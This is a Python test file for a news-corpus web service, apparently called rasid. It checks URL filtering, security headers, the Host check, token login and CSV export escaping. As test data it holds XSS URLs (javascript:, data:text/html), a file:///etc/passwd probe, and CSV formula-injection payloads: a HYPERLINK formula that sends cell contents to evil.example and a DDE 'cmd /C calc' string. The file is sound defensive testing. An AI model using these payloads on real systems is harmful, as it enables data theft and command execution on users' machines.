"""Serving on a network safely: URL schemes, response headers, Host check, token, CSV formulas, paths.

HTTP-level tests with Starlette's TestClient (the browser side is tests/test_web_security.py).
"""

from __future__ import annotations

import csv
import importlib.util
import json
import re
from dataclasses import replace
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from rasid.config import RunConfig
from rasid.ingest.common import WARNING, safe_url
from rasid.ingest.readers import read_file
from rasid.models import RawArticle
from rasid.run.pipeline import run
from rasid.serve import security
from rasid.serve.api import WEB_DIR, create_app
from rasid.serve.cli import app as cli_app
from rasid.serve.export import csv_cell, export
from rasid.serve.security import SecurityConfig, allowed_hosts_for, host_name
from rasid.store import Store

ROOT = Path(__file__).resolve().parents[1]
_spec = importlib.util.spec_from_file_location("rasid_api_fixture_sec", Path(__file__).with_name("test_api.py"))
api_fixture = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(api_fixture)  # type: ignore[union-attr]

HOSTILE_URLS = ["javascript:alert(1)", "  JaVaScRiPt:alert(1)", "\tjavascript:alert(1)", "java\tscript:alert(1)",
                "\x00javascript:alert(1)", "JAVASCRIPT:alert(document.cookie)", "vbscript:msgbox(1)",
                "data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "//evil.example/x",
                "http:/no-host", "https://", "ftp://example.com/a", "", "   "]
GOOD_URLS = ["https://sana.sy/?p=2287730", "http://example.com", "  HTTPS://Arabic.RT.com/russia/1/  ",
             "https://ar.wikipedia.org/wiki/فلاديمير_بوتين"]


@pytest.mark.parametrize("url", HOSTILE_URLS)
def test_safe_url_refuses_every_other_scheme(url: str) -> None:
    assert safe_url(url) is None


@pytest.mark.parametrize("url", GOOD_URLS)
def test_safe_url_keeps_http_links_trimmed(url: str) -> None:
    assert safe_url(url) == url.strip()


def test_ingest_drops_a_javascript_url_with_a_warning_and_keeps_the_article(tmp_path: Path) -> None:
    text = "وصل الرئيس السوري أحمد الشرع إلى موسكو في زيارة رسمية يلتقي خلالها الرئيس فلاديمير بوتين."
    jl = tmp_path / "in.jsonl"
    jl.write_text(json.dumps({"id": "bad-1", "title": "زيارة", "text": text, "url": "  JaVaScRiPt:alert(1)"},
                             ensure_ascii=False) + "\n" +
                  json.dumps({"id": "ok-1", "title": "زيارة", "text": text + " ثانية",
                              "url": "https://sana.sy/?p=1"}, ensure_ascii=False) + "\n", encoding="utf-8")
    txt = tmp_path / "a.txt"
    txt.write_text("url: data:text/html,<script>alert(1)</script>\ntitle: خبر\n\n" + text + " ثالثة", encoding="utf-8")
    items = [*read_file(jl), *read_file(txt)]
    arts = {i.doc_id: i for i in items if isinstance(i, RawArticle)}
    warns = [i for i in items if not isinstance(i, RawArticle)]
    assert arts["bad-1"].url is None and arts["ok-1"].url == "https://sana.sy/?p=1"
    assert [a.url for a in arts.values() if a.doc_id not in ("bad-1", "ok-1")] == [None]
    assert len(warns) == 2 and all(w.reason.startswith(WARNING) and "http" in w.reason for w in warns)
    assert {w.doc_id for w in warns} >= {"bad-1"}
    # through the pipeline: the articles are stored (no url), the warnings recorded
    store = Store(tmp_path / "s.db")
    report = run([jl, txt], store, replace(RunConfig(), extract=False, cluster=False))
    assert report.added == 3 and report.read == 3  # the two warnings are notes on articles, not inputs
    docs = {d.id: d for d in store.documents()}
    assert docs["bad-1"].url is None and docs["ok-1"].url == "https://sana.sy/?p=1"
    assert sum(k.reason.startswith(WARNING) for k in store.skips()) == 2


# ---- headers, Host, token ------------------------------------------------------------------------
@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Store:
    return api_fixture.build_db(tmp_path_factory.mktemp("sec") / "t.db")


@pytest.fixture(scope="module")
def client(store: Store) -> TestClient:
    return TestClient(create_app(store), base_url="http://localhost:8000")


PAGES = ["/", "/docs", "/static/app.js", "/static/safe.js", "/static/style.css", "/openapi.json", "/api/stories",
         "/api/documents/rt-1", "/api/search?q=موسكو", "/api/nothing-here", "/api/stories?limit=0",
         "/api/stories/nope", "/login"]


def assert_secure_headers(r: object) -> None:
    h = r.headers  # type: ignore[attr-defined]
    csp = h["content-security-policy"]
    directives = {d.split()[0]: d.split()[1:] for d in csp.split(";") if d.strip()}
    assert directives["script-src"] == ["'self'"] and "unsafe-inline" not in csp and "unsafe-eval" not in csp
    assert directives["default-src"] == ["'self'"] and directives["object-src"] == ["'none'"]
    assert directives["frame-ancestors"] == ["'none'"]
    assert h["x-content-type-options"] == "nosniff"
    assert h["x-frame-options"] == "DENY"
    assert h["referrer-policy"] == "no-referrer"


@pytest.mark.parametrize("path", PAGES)
def test_every_response_carries_the_security_headers(client: TestClient, path: str) -> None:
    assert_secure_headers(client.get(path))


def test_refusals_carry_the_headers_too(store: Store) -> None:
    c = TestClient(create_app(store, SecurityConfig(token="s3cret-token-123")), base_url="http://localhost")
    assert_secure_headers(c.get("/api/stories"))  # 401
    assert_secure_headers(c.get("/api/stories", headers={"Host": "evil.example"}))  # 421


@pytest.mark.parametrize("page", ["index.html", "apidocs.html"])
def test_html_has_no_inline_script_style_or_handlers(page: str) -> None:
    html = (WEB_DIR / page).read_text(encoding="utf-8")
    for m in re.finditer(r"<script\b([^>]*)>(.*?)</script>", html, re.S | re.I):
        assert "src=" in m.group(1) and not m.group(2).strip(), f"inline script in {page}"
    assert not re.search(r"\son[a-z]+\s*=", html, re.I), "inline event handler"
    assert not re.search(r"\sstyle\s*=", html, re.I) and "<style" not in html.lower()
    for js in WEB_DIR.glob("*.js"):  # the CSP forbids style attributes and string code as well
        src = js.read_text(encoding="utf-8")
        assert not re.search(r"\bstyle:\s*[`\"']|setAttribute\(\s*[\"']style|\.(?:inner|outer)HTML\s*=|\beval\(|new Function",
                             src), js.name


@pytest.mark.parametrize("host", ["localhost", "localhost:8000", "127.0.0.1:8000", "[::1]:8000", "LOCALHOST"])
def test_loopback_hosts_are_answered(client: TestClient, host: str) -> None:
    assert client.get("/api/stats", headers={"Host": host}).status_code == 200


@pytest.mark.parametrize("host", ["evil.example", "evil.example:8000", "localhost.evil.example", "127.0.0.1.nip.io",
                                  "192.168.1.20:8000", ""])
def test_foreign_host_is_refused(client: TestClient, host: str) -> None:
    """DNS rebinding: a page on evil.example whose name now resolves to 127.0.0.1 must not read the corpus."""
    r = client.get("/api/documents/rt-1", headers={"Host": host})
    assert r.status_code == 421
    body = r.json()
    assert body["code"] == "host_not_allowed" and "موسكو" not in r.text
    assert re.search("[\u0600-\u06ff]", body["detail"])


def test_allowed_hosts_from_bind_address_and_option(store: Store) -> None:
    hosts = allowed_hosts_for("0.0.0.0", ["rasid.lan", "10.0.0.5:8000"])
    assert hosts == {"localhost", "127.0.0.1", "::1", "rasid.lan", "10.0.0.5"}
    assert allowed_hosts_for("192.168.1.20") >= {"192.168.1.20", "localhost"}
    assert host_name("[::1]:80") == "::1" and host_name("Rasid.LAN.:80") == "rasid.lan"
    c = TestClient(create_app(store, SecurityConfig(allowed_hosts=hosts)), base_url="http://localhost")
    assert c.get("/api/stats", headers={"Host": "rasid.lan:8000"}).status_code == 200
    assert c.get("/api/stats", headers={"Host": "10.0.0.5"}).status_code == 200
    assert c.get("/api/stats", headers={"Host": "10.0.0.6"}).status_code == 421


TOKEN = "tok;en=42/+%,x"  # characters a cookie cannot hold as they are: the cookie must still carry it


@pytest.fixture(scope="module")
def locked(store: Store) -> TestClient:
    return TestClient(create_app(store, SecurityConfig(token=TOKEN)), base_url="http://localhost")


@pytest.mark.parametrize("path", ["/api/stories", "/api/documents/rt-1", "/api/search?q=موسكو", "/openapi.json",
                                  "/static/app.js", "/docs"])
def test_token_required_401_without_or_with_wrong_token(locked: TestClient, path: str) -> None:
    locked.cookies.clear()
    r = locked.get(path)
    assert r.status_code == 401 and "موسكو" not in r.text and "Bearer" in r.headers["www-authenticate"]
    for bad in ("Bearer wrong", "Bearer ", "Basic " + TOKEN, "Bearer " + TOKEN[:-1], TOKEN):
        assert locked.get(path, headers={"Authorization": bad}).status_code == 401, bad
    assert locked.get(path, cookies={"rasid_token": "wrong"}).status_code == 401
    locked.cookies.clear()


def test_token_accepted_as_bearer(locked: TestClient) -> None:
    r = locked.get("/api/documents/rt-1", headers={"Authorization": f"Bearer {TOKEN}"})
    assert r.status_code == 200 and r.json()["id"] == "rt-1"
    assert r.headers["cache-control"] == "no-store"


def test_token_compared_in_constant_time(locked: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
    calls = []
    real = security.hmac.compare_digest

    def spy(a: bytes, b: bytes) -> bool:
        calls.append((a, b))
        return real(a, b)

    monkeypatch.setattr(security.hmac, "compare_digest", spy)
    locked.get("/api/stats", headers={"Authorization": "Bearer nope"})
    assert calls and calls[-1][1] == TOKEN.encode()


def test_ui_asks_for_the_token_once_and_sets_a_cookie(locked: TestClient) -> None:
    locked.cookies.clear()
    page = locked.get("/", headers={"Accept": "text/html"})
    assert page.status_code == 401 and 'dir="rtl"' in page.text and 'method="post"' in page.text
    assert "رمز الدخول" in page.text and TOKEN not in page.text
    assert locked.get("/static/style.css").status_code == 200  # the login page's own style
    wrong = locked.post("/login", data={"token": "nope"}, follow_redirects=False)
    assert wrong.status_code == 401 and "غير صحيح" in wrong.text and "set-cookie" not in wrong.headers
    ok = locked.post("/login", data={"token": TOKEN}, follow_redirects=False)
    assert ok.status_code == 303 and ok.headers["location"] == "/"
    cookie = ok.headers["set-cookie"]
    assert "HttpOnly" in cookie and "SameSite=Strict" in cookie and "Path=/" in cookie
    assert locked.get("/api/documents/rt-1").status_code == 200  # the cookie now does it
    assert locked.get("/").status_code == 200
    locked.cookies.clear()


def test_no_token_configured_means_open_on_localhost(client: TestClient) -> None:
    assert client.get("/api/stats").status_code == 200


def test_entity_name_filter_ignores_invisible_characters(client: TestClient) -> None:
    plain = client.get("/api/entities", params={"q": "بوتين"}).json()["items"]
    assert [e["id"] for e in plain] == ["e-putin"]
    assert client.get("/api/entities", params={"q": "بو\u200fتين\u2069"}).json()["items"] == plain
    r = client.get("/api/entities", params={"q": "\x00\u200f"})
    assert r.status_code == 400 and r.json()["code"] == "empty_query"


# ---- CLI -----------------------------------------------------------------------------------------
runner = CliRunner()


@pytest.fixture
def served(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> tuple[list[dict], str]:
    calls: list[dict] = []
    monkeypatch.setattr("rasid.serve.api.serve", lambda db, **kw: calls.append({"db": db, **kw}))
    monkeypatch.delenv("RASID_TOKEN", raising=False)
    db = tmp_path / "s.db"
    Store(db).close()
    return calls, str(db)


@pytest.mark.parametrize("host", ["0.0.0.0", "::", "192.168.1.20"])
def test_cli_refuses_a_network_host_without_a_token(served: tuple[list[dict], str], host: str) -> None:
    calls, db = served
    r = runner.invoke(cli_app, ["serve", "--db", db, "--host", host])
    assert r.exit_code == 2 and not calls
    assert "without a token" in r.output and "RASID_TOKEN" in r.output and "--insecure" in r.output


def test_cli_token_from_env_or_option(served: tuple[list[dict], str], monkeypatch: pytest.MonkeyPatch) -> None:
    calls, db = served
    monkeypatch.setenv("RASID_TOKEN", "from-env-token")
    r = runner.invoke(cli_app, ["serve", "--db", db, "--host", "0.0.0.0", "--allowed-host", "rasid.lan"])
    assert r.exit_code == 0, r.output
    sec = calls[-1]["security"]
    assert sec.token == "from-env-token" and "rasid.lan" in sec.allowed_hosts and "localhost" in sec.allowed_hosts
    assert "from-env-token" not in r.output  # the token is never printed
    monkeypatch.delenv("RASID_TOKEN")
    r = runner.invoke(cli_app, ["serve", "--db", db, "--host", "10.0.0.5", "--token", "opt-token"])
    assert r.exit_code == 0 and calls[-1]["security"].token == "opt-token"
    assert "10.0.0.5" in calls[-1]["security"].allowed_hosts


@pytest.mark.parametrize("token", ["tök", "has space", "short"])
def test_cli_refuses_a_token_headers_cannot_carry_or_too_short(served: tuple[list[dict], str], token: str) -> None:
    calls, db = served
    r = runner.invoke(cli_app, ["serve", "--db", db, "--host", "0.0.0.0", "--token", token])
    assert r.exit_code == 2 and not calls and "token" in r.output


def test_cli_insecure_on_purpose_warns(served: tuple[list[dict], str]) -> None:
    calls, db = served
    r = runner.invoke(cli_app, ["serve", "--db", db, "--host", "0.0.0.0", "--insecure"])
    assert r.exit_code == 0 and calls[-1]["security"].token is None
    assert "WARNING" in r.output and "NO token" in r.output


def test_cli_localhost_needs_no_token(served: tuple[list[dict], str]) -> None:
    calls, db = served
    r = runner.invoke(cli_app, ["serve", "--db", db])
    assert r.exit_code == 0 and calls[-1]["host"] == "127.0.0.1" and calls[-1]["security"].token is None


# ---- CSV formulas, server paths ------------------------------------------------------------------
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"اضغط هنا")'


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> tuple[Store, Path]:
    root = tmp_path_factory.mktemp("hostile")
    corpus = root / "srv-secret-folder" / "in.jsonl"
    corpus.parent.mkdir()
    text = "قال المتحدث باسم الكرملين دميتري بيسكوف إن الرئيس فلاديمير بوتين سيستقبل الرئيس السوري في موسكو."
    rows = [{"id": "h-1", "title": HOSTILE_TITLE, "outlet": "+cmd|' /C calc'!A0", "text": text},
            {"id": "h-2", "title": "@SUM(1+1)*cmd", "outlet": "-2+3", "text": text + " وأضاف أن الزيارة رسمية."},
            {"id": "h-3", "title": "\tتبويب في البداية", "outlet": "sana", "text": text + " وقال مصدر آخر."},
            {"id": "h-4", "title": "عنوان عادي = بلا خطر", "outlet": "aawsat", "text": text + " وختم."}]
    corpus.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in rows) + "\n", encoding="utf-8")
    store = Store(root / "h.db")
    run([corpus], store, replace(RunConfig(), extract=False, cluster=False))
    return store, root


def test_csv_cells_that_start_a_formula_are_escaped(hostile_store: tuple[Store, Path], tmp_path: Path) -> None:
    store, _ = hostile_store
    export(store, "csv", tmp_path / "csv")
    with (tmp_path / "csv" / "documents.csv").open(encoding="utf-8", newline="") as fh:
        docs = {r["id"]: r for r in csv.DictReader(fh)}
    assert docs["h-1"]["title"] == "'" + HOSTILE_TITLE and docs["h-1"]["outlet"] == "'+cmd|' /C calc'!A0"
    assert docs["h-2"]["title"] == "'@SUM(1+1)*cmd" and docs["h-2"]["outlet"] == "'-2+3"
    assert docs["h-3"]["title"] == "'\tتبويب في البداية"
    assert docs["h-4"]["title"] == "عنوان عادي = بلا خطر" and docs["h-4"]["outlet"] == "aawsat"
    for table in (tmp_path / "csv").glob("*.csv"):  # no cell of any table starts a formula
        with table.open(encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in row), (table.name, row)
    # the JSON export keeps the exact text
    export(store, "json", tmp_path / "e.json")
    data = json.loads((tmp_path / "e.json").read_text(encoding="utf-8"))
    titles = {d["id"]: d["title"] for d in data["documents"]}
    assert titles["h-1"] == HOSTILE_TITLE and titles["h-2"] == "@SUM(1+1)*cmd"


def test_csv_cell_leaves_numbers_and_safe_text_alone() -> None:
    assert csv_cell(-5) == -5 and csv_cell(None) is None and csv_cell("2026-01-28") == "2026-01-28"
    assert csv_cell("\rx") == "'\rx" and csv_cell("[\"a\"]") == "[\"a\"]"


def test_api_shows_no_server_paths(hostile_store: tuple[Store, Path]) -> None:
    store, root = hostile_store
    c = TestClient(create_app(store), base_url="http://localhost")
    doc = c.get("/api/documents/h-1").json()
    assert doc["source_path"] == "in.jsonl:1"
    for path in ("/api/documents/h-1", "/api/documents", "/api/search?q=بوتين", "/api/stories", "/api/stats",
                 "/api/documents/nope", "/api/outlets"):
        body = c.get(path).text
        assert str(root) not in body and "srv-secret-folder" not in body, path
    # the export keeps the path as given to `rasid run` (the owner's own file)
    assert "srv-secret-folder" in store.documents(["h-1"])[0].source_path
